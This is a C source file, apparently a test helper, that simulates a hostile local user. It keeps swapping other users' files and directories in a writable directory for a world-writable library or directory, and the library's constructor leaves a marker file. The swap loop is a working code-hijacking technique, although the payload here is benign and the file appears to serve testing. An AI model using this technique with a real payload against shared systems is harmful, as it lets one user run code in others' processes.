/*
 * A process of another user that wants its code to be executed: as soon as a file or directory of
 * ours turns up in a directory that he can write to, he renames it and puts one of his in its
 * place. His library leaves a mark in the process that loads it.
 *
 *   thief UID DIRECTORY LIBRARY     until it is killed
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#ifdef LIBRARY
__attribute__((constructor)) static void leave_a_mark(void)
{
    const char *const mark = getenv("SIGQUEUE_THIEF");
    if (mark != NULL)
        close(open(mark, O_CREAT | O_WRONLY, 0644));
}
#else

static char library[1 << 20];

static size_t read_library(const char *file)
{
    FILE *const from = fopen(file, "r");
    const size_t bytes = from == NULL ? 0 : fread(library, 1, sizeof library, from);
    if (bytes == 0)
        exit(2);
    fclose(from);
    return bytes;
}

static size_t library_bytes;
static uid_t thief;

static void replace(int where, const char *name, bool is_directory)
{
    char stolen[64];
    static unsigned count;
    snprintf(stolen, sizeof stolen, "stolen-%u", count++);
    if (renameat(where, name, where, stolen) != 0)
        return;
    if (is_directory) {
        mkdirat(where, name, 0777);
        fchmodat(where, name, 0777, 0);
        return;
    }
    const int copy = openat(where, name, O_CREAT | O_EXCL | O_WRONLY, 0777);
    if (copy >= 0 && write(copy, library, library_bytes) > 0)
        fchmod(copy, 0777);
    close(copy);
}

/* In this directory, and in those that are his already. */
static void look(int where, int depth)
{
    DIR *const here = fdopendir(where);
    for (struct dirent *each; here != NULL && (each = readdir(here)) != NULL;) {
        struct stat found;
        if (each->d_name[0] == '.' || strncmp(each->d_name, "stolen-", 7) == 0 ||
            fstatat(where, each->d_name, &found, AT_SYMLINK_NOFOLLOW) != 0)
            continue;
        if (found.st_uid != thief)
            replace(where, each->d_name, S_ISDIR(found.st_mode));
        else if (S_ISDIR(found.st_mode) && depth < 2)
            look(openat(where, each->d_name, O_RDONLY | O_DIRECTORY), depth + 1);
    }
    if (here != NULL)
        closedir(here);
}

int main(int argc, char **argv)
{
    if (argc != 4)
        return 2;
    library_bytes = read_library(argv[3]);
    thief = (uid_t)atoi(argv[1]);
    if (chdir(argv[2]) != 0 || setgid(thief) != 0 || setuid(thief) != 0)
        return 2;
    umask(0);
    puts("ready");
    fflush(stdout);
    for (;;)
        look(open(".", O_RDONLY | O_DIRECTORY), 0);
}
#endif
